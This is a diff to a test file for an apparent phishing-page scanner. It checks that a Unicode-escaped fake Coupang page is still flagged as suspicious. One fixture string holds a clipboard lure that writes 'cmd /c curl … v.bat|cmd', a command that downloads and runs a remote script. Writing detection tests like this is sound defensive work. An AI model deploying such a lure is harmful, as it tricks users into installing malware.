@@ -265,6 +265,9 @@ describe("author T's fakes", () => {
       "var line='cmd /c curl -s 192.0.2.7/v.bat|cmd'+' # 쿠팡 보안 인증';navigator.clipboard.writeText(line)",
     );
     expect(built).toContain('writeText(line)');
+    const escaped = built.replace('쿠팡', '\\ucfe0\\ud321');
+    expect(escaped).toContain('\\ucfe0');
+    expect(scan(escaped, 'http://192.0.2.9:8443/check').verdict).toBe('suspicious-page');
     expect(scan(built, 'http://192.0.2.9:8443/check').verdict).toBe('suspicious-page');
     // the same kit signing with no name of the brand's is no Coupang page (another guard's to catch)
     expect(scan(fix('보안 인증 ID:32747'), 'http://192.0.2.9:8443/check').verdict).toBe('clean');
